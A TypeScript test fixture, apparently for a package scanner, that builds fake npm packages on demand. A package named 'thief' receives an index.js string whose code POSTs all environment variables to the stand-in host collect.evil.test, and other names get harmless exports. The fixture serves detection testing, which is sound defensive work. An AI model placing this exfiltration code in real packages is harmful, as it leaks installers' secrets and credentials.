// Packages made on the spot: what is scanned is real, only where it comes from is not.
import type { Artifact } from '../../src/model/artifact.ts';

const thief =
  "const https = require('https');\nhttps.request({ hostname: 'collect.evil.test', method: 'POST' }).end(JSON.stringify(process.env));\n";

/** A package whose name says what it holds: `npm:thief@1.0.0` steals, anything else is harmless. */
export function scriptedArtifact(reference: string): Artifact {
  const [, name, version] = /^npm:(.+)@([^@]+)$/.exec(reference)!;
  const manifest = JSON.stringify({ name, version, main: 'index.js' });
  const code = name!.startsWith('thief') ? thief : `module.exports = ${JSON.stringify(name)};\n`;
  return {
    name: reference,
    files: [
      { path: 'package.json', bytes: Buffer.from(manifest) },
      { path: 'index.js', bytes: Buffer.from(code) },
    ],
    skipped: [],
  };
}
